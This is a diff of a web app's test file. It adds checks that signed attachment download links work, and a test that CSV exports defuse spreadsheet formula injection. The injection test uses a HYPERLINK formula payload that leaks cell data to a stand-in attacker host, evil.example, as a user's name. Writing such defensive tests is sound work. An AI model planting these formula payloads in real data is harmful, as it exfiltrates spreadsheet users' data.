@@ -867,6 +867,15 @@ describe('attachments', () => {
     expect(Object.keys(fake.validation.errors)).toEqual(['pdf_files[]']);
     const shown = await t.call(ep.show, { as: me, params: { id: d.id } });
     expect(shown.parsed.data.attachments).toHaveLength(1);
+    // A members-only kind: the links are signed, and they download (the detail's and the authors' list alike).
+    const listed = (await t.call(ep.attachments, { as: me, params: { id: d.id } })).parsed.data;
+    for (const url of [shown.parsed.data.attachments[0]!.url, listed[0]!.url]) {
+      expect(url).toMatch(/^\/api\/files\/.+\?expires=\d+&signature=/);
+      const download = await t.http.get(url!).buffer(true);
+      expect(download.status).toBe(200);
+      expect(download.headers['content-disposition']).toContain('bakgrunn.pdf');
+      expect(Buffer.from(download.body as Buffer).equals(pdf)).toBe(true);
+    }
     const other = await t.session();
     expect(
       (
@@ -929,6 +938,19 @@ describe('exports', () => {
       .set('Authorization', `Bearer ${me.accessToken}`)
       .buffer(true)
       .parse(binary as never);
+
+  it('writes a name that is a spreadsheet formula as text in the CSV (OWASP: a leading quote)', async () => {
+    const owner = await t.session();
+    const p = await published(owner);
+    const evil = await t.session({ firstName: '=HYPERLINK("https://evil.example/?x="&A1,"Click")', lastName: token });
+    await t.call(ep.sign, { as: evil, params: { id: p.id }, body: {} });
+    const plus = await t.session({ firstName: '@SUM(1+1)', lastName: token });
+    await t.call(ep.sign, { as: plus, params: { id: p.id }, body: { anonymous: true } });
+    const csv = await t.call(ep.export, { as: owner, params: { id: p.id }, query: { format: 'csv' }, locale: 'en' });
+    const lines = csv.text.replace(/^\uFEFF/, '').trim().split('\n');
+    expect(lines[1]!.startsWith(`"'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"") ${token}",`)).toBe(true);
+    expect(lines[2]!.startsWith(`'@SUM(1+1) ${token},`)).toBe(true);
+  });
 
   it('streams the signature list as CSV, XLSX and PDF to the initiator only', async () => {
     const owner = await t.session();
